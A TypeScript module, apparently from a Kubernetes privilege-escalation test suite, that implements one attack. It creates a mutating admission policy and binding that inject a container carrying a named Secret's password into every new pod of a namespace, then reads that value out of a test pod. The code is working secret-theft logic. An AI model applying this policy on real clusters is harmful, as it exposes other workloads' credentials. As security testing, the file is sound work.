import { must, pathOf, waitFor } from "../../control-plane/act.ts";
import type { Attack } from "./attack.ts";
import { clearPods, environmentOf, harmless, IMAGE, namesCanary } from "./kubelet.ts";
import { fresh, SECRET, type Stage } from "./stage.ts";

/** The group of policies and their bindings, and where they are. */
export const GROUP = "admissionregistration.k8s.io";
export const PATH = `/apis/${GROUP}/v1`;

/** A container of the attacker's with the Secret in its environment, put into every pod of the namespace. */
const EXPRESSION = `[JSONPatch{op: "add", path: "/spec/containers/-", value: Object.spec.containers{
  name: "added", image: "${IMAGE}", env: [Object.spec.containers.env{name: "PASSWORD",
  valueFrom: Object.spec.containers.env.valueFrom{secretKeyRef: Object.spec.containers.env.valueFrom.secretKeyRef{
  name: "${SECRET}", key: "password"}}}]}}]`;

/** A policy that puts a container with the Secret into every new pod of the namespace, or does what else is said. */
export function policy({ namespace }: Stage, name: string, expression = EXPRESSION) {
  return {
    metadata: { name },
    spec: {
      failurePolicy: "Ignore",
      reinvocationPolicy: "Never",
      matchConstraints: {
        namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": namespace } },
        resourceRules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] }],
      },
      mutations: [{ patchType: "JSONPatch", jsonPatch: { expression } }],
    },
  };
}

/** Removes what the last attempt left: the policy and the binding of the stage, and all pods. */
export async function clear(stage: Stage): Promise<void> {
  for (const resource of ["mutatingadmissionpolicybindings", "mutatingadmissionpolicies"]) {
    await stage.plane.request("DELETE", `${PATH}/${resource}/${stage.unique}`);
  }
  await clearPods(stage);
}

/** The Secret, out of the first pod that somebody else makes and that the policy changes. */
export async function fromNextPod(stage: Stage): Promise<string> {
  const pod = await waitFor("a pod of somebody else's to be changed", async () => {
    const body = { metadata: { name: fresh("innocent") }, spec: harmless(stage) };
    const made = await must(stage.plane, "POST", pathOf("Pod", stage.namespace), body);
    return namesCanary(made) ? made : null;
  });
  return environmentOf(stage, pod);
}

export const attacks: Attack[] = [
  {
    edge: "admission-policies",
    how: "a policy that puts a container with the Secret into the next pod that somebody makes",
    rights: (stage) => [
      stage.everywhere("create", `mutatingadmissionpolicies.${GROUP}`),
      stage.everywhere("create", `mutatingadmissionpolicybindings.${GROUP}`),
    ],
    arrange: clear,
    attack: async (stage) => {
      const { unique: name } = stage;
      await stage.send("POST", `${PATH}/mutatingadmissionpolicies`, policy(stage, name));
      await stage.send("POST", `${PATH}/mutatingadmissionpolicybindings`, {
        metadata: { name },
        spec: { policyName: name },
      });
      return fromNextPod(stage);
    },
  },
];
